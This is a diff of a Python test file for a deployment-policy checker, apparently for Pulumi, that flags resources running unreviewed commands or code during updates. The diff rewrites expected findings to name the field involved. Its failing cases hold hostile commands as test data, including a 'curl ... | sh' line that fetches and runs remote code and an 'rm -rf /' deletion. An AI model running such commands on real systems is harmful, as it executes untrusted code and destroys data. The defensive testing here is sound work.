@@ -5,7 +5,6 @@ from policies.rules.platform.unseen_code import RULES
 from tests.policies.cases import Case, RuleCases, cases_test, resource
 
 LOCAL = "command:local:Command"
-RUNS = ["runs a command during an update, with all that the deployer may do"]
 MADE = ["a plugin makes its contents: nobody here sees them"]
 CODE = ["runs the program's own code during an update, with all that the deployer may do"]
 
@@ -26,9 +25,18 @@ CASES = {
             Case(resource(LOCAL, {"create": ""})),
         ],
         failing=[
-            Case(resource(LOCAL, {"create": "curl https://example.com/x | sh"}), findings=RUNS),
-            Case(resource("command:remote:Command", {"delete": "rm -rf /"}), findings=RUNS),
-            Case(resource("command:local:Command", {"update": "true", "create": None}), findings=RUNS),
+            Case(
+                resource(LOCAL, {"create": "curl https://example.com/x | sh"}),
+                findings=["create: runs a command during an update, with all that the deployer may do"],
+            ),
+            Case(
+                resource("command:remote:Command", {"delete": "rm -rf /"}),
+                findings=["delete: runs a command during an update, with all that the deployer may do"],
+            ),
+            Case(
+                resource("command:local:Command", {"update": "true", "create": None}),
+                findings=["update: runs a command during an update, with all that the deployer may do"],
+            ),
             Case(resource("pulumi-python:dynamic:Resource", {"__provider": "gASV"}), findings=CODE),
             Case(resource("pulumi-nodejs:dynamic/module:Resource", {}), findings=CODE),
             Case(remote("kubernetes:yaml/v2:ConfigFile"), findings=MADE),
